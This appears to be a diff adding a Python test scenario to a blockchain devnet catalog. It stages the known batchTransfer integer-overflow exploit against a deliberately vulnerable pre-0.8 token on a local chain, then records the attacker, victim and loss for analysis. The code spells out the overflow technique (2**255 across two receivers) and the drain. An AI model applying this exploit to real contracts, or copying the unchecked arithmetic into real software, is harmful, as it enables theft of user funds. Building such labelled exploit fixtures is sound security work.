@@ -1,0 +1,74 @@
+"""Scenario `integer-overflow-token`: BEC-style `batchTransfer` overflow in a pre-0.8 token.
+
+BatchToken (solc 0.7.6, no SafeMath) sells BATCH for ETH at 1,000 BATCH per ETH and buys it back
+at the same rate. Alice, bob and carol buy 10 ETH worth; bob airdrops some to dave and erin with
+`batchTransfer`. Mallory's BatchDrainer then deploys a throwaway BatchMinter whose constructor
+calls `batchTransfer([drainer, mallory], 2**255)`: `2 * 2**255` wraps to 0, the balance check
+passes, and both receivers are credited 2**255 BATCH. The drainer sells 10,000 BATCH back, taking
+the token's whole 10 ETH reserve, and pays mallory.
+"""
+
+from __future__ import annotations
+
+from timemachine.catalog.builder import ETHER, create_address
+from timemachine.catalog.devnet import actor_address
+from timemachine.catalog.models import ScenarioRecord
+from timemachine.catalog.scenarios.base import Scenario
+from timemachine.catalog.scenarios.contract import deploy
+from timemachine.catalog.scenarios.world import World
+from timemachine.errors import DevnetBuildError
+
+ATTACKER = "mallory"
+RATE = 1000
+"""BATCH base units per wei."""
+EXPLOIT_GAS = 1_000_000
+
+
+async def stage(world: World) -> ScenarioRecord:
+    """Sell BATCH to three buyers, airdrop honestly, then overflow; verify the exact loss."""
+    chain, a = world.chain, actor_address
+    token = await deploy(chain, "deployer", "BatchToken")
+    await chain.mine()
+    for user, amount in {"alice": 5, "bob": 3, "carol": 2}.items():
+        await token.send(user, "buy", value=amount * ETHER)
+    await token.send("bob", "batchTransfer", [a("dave"), a("erin")], 100 * 10**18)
+    drainer = await deploy(chain, ATTACKER, "BatchDrainer")
+    await chain.mine()
+
+    held = await chain.balance(token.address)
+    before = await chain.balance(a(ATTACKER))
+    exploit_tx = await drainer.send(ATTACKER, "attack", token.address, gas=EXPLOIT_GAS)
+    minter = create_address(drainer.address, 1)  # the drainer's first CREATE (nonce 1)
+    chain.label(minter, "BatchMinter")
+    block = await chain.mine()
+    fee = block.fee(exploit_tx)
+    profit = await chain.balance(a(ATTACKER)) - before
+    left = await chain.balance(token.address)
+    loss = held - left
+    if (held, left) != (10 * ETHER, 0) or profit != loss - fee:
+        raise DevnetBuildError(
+            f"batchTransfer overflow {exploit_tx} misbehaved: token held {held} wei, kept {left}, "
+            f"attacker profit {profit} wei (fee {fee})"
+        )
+    return SCENARIO.record(
+        exploit_tx=exploit_tx,
+        block_number=block.number,
+        attacker=a(ATTACKER),
+        attacker_contracts=[drainer.address, minter],
+        victims=[token.address],
+        expected_loss_wei=loss,
+    )
+
+
+SCENARIO = Scenario(
+    id="integer-overflow-token",
+    title="BatchToken batchTransfer overflow: pre-0.8 arithmetic wraps",
+    description=(
+        "BatchToken, compiled with solc 0.7.6 and no SafeMath, computes batchTransfer's total as "
+        "receivers * value. The attacker's contracts send 2**255 to two receivers: the product "
+        "wraps to 0, the balance check passes, and 2**255 BATCH each appear from nothing. The "
+        "drainer sells 10,000 BATCH back to the token for its whole 10 ETH reserve."
+    ),
+    vulnerability_class="integer_overflow",
+    stage=stage,
+)
